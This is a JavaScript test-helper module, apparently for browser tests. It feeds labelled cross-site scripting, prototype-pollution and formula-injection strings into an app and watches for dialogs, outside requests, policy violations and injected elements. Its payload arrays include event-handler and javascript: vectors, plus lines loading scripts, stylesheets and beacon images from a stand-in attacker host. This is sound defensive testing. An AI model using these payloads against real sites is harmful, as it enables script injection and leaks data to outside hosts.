/** Texts that would do something if they were taken for more than text. */

/** What would be noticed: a dialog, a mark on the window, a request. */
const ACT = 'alert(1)';

/** Short enough for a name: 40 characters with a mark. */
const SHORT = [
  `<script>${ACT}</script>`,
  `<img src=x onerror=${ACT}>`,
  `<svg/onload=${ACT}>`,
  `<b onclick=${ACT}>`,
  `<a href=javascript:${ACT}>`,
  `"><svg onload=${ACT}>`,
  `'-${ACT}-'`,
  `{{${ACT}}}`,
  '${' + ACT + '}',
  `{@html ${ACT}}`,
  `</title><script>${ACT}//`,
  `<!--><svg/onload=${ACT}>`,
  `javascript:${ACT}`,
  `&lt;script&gt;${ACT}`,
  `<iframe src=//evil.example>`,
  `\\u003cscript\\u003e${ACT}`,
];

/** As long as a line may be: 140 characters with a mark. */
const LONG = [
  ...SHORT,
  `<IMG """><SCRIPT>${ACT}</SCRIPT>">`,
  `<img src="x:gif" onerror="window.ran=1">`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<video><source onerror=${ACT}>`,
  `<body onload=${ACT}>`,
  `<marquee onstart=${ACT}>`,
  `<object data="javascript:${ACT}">`,
  `<embed src="data:text/html,<script>${ACT}</script>">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ACT}">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><button formaction=javascript:${ACT}>x`,
  `<style>@import "//evil.example/x.css";body{display:none}</style>`,
  `<div style="background:url(//evil.example/x.png)">`,
  `<template><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<textarea></textarea><script>${ACT}</script>`,
  `]]><script>${ACT}</script>`,
  `\\";${ACT};//`,
  `';${ACT};String.fromCharCode(88)//`,
  `<a href="jav&#x09;ascript:${ACT}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<img src=//evil.example/beacon.png>`,
  `<img srcset="//evil.example/beacon.png 1x">`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `＜script＞${ACT}＜/script＞`,
  `%3Cscript%3E${ACT}%3C/script%3E`,
  `__proto__.ran`,
  `{"__proto__":{"ran":1}}`,
  `constructor.constructor("${ACT}")()`,
  `<x contenteditable onblur=${ACT}>lose focus</x>`,
  `<p id=app></p><p id=__proto__></p>`,
  `=HYPERLINK("//evil.example","x")`,
  `<xmp><img alt="</xmp><img src=x onerror=${ACT}>">`,
];

/** A supply of texts, each with a mark of its own that shows where it is seen. */
export class Hostile {
  #next = 0;

  #from(texts, moment) {
    const text = texts[this.#next % texts.length];
    this.#next += 1;
    return `${text} ~${moment}${this.#next}~`;
  }
  name() {
    return this.#from(SHORT, 'n');
  }
  line(moment) {
    return this.#from(LONG, moment);
  }
  /** How many texts were handed out, and of how many kinds. */
  get count() {
    return { texts: this.#next, kinds: LONG.length };
  }
}

/** Waits until marks of a moment can be read on a page, in its text or in what is being written. */
export const reads = (page, moment) =>
  page.waitForFunction((mark) => {
    const written = [...document.querySelectorAll('input, textarea')].map(({ value }) => value);
    return [document.body.innerText, ...written].some((text) => text.includes(mark));
  }, `~${moment}`);

/** Watches a page for whatever would be done by a text. Gives what was noticed. */
export async function watch(page, url) {
  const noticed = [];
  page.on('dialog', (dialog) => {
    noticed.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', () => noticed.push('a window'));
  page.on('request', (request) => {
    if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(url)) {
      noticed.push(`a request to ${request.url()}`);
    }
  });
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML/.test(message.text())) noticed.push(message.text());
  });
  await page.exposeFunction('notice', (what) => noticed.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      globalThis.notice(`the policy stopped ${violatedDirective} ${blockedURI} ${sample}`),
    );
  });
  return noticed;
}

/** What stands on the page that no page of ours has. */
export const foreign = (page) =>
  page.evaluate(() => {
    const found = [];
    for (const element of document.querySelectorAll('*')) {
      const handlers = [...element.attributes].filter(({ name }) => name.startsWith('on'));
      const link = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
      const odd = /^\s*(javascript:|\/\/|https?:\/\/evil)/i.test(link);
      const inline = element.tagName === 'SCRIPT' && !element.getAttribute('src');
      const unknown = /^(IFRAME|OBJECT|EMBED|MARQUEE|BASE|XMP|MATH|TEMPLATE|VIDEO)$/.test(element.tagName);
      if (handlers.length > 0 || odd || inline || unknown) found.push(element.outerHTML.slice(0, 200));
    }
    if ('ran' in globalThis) found.push('something ran');
    return found;
  });
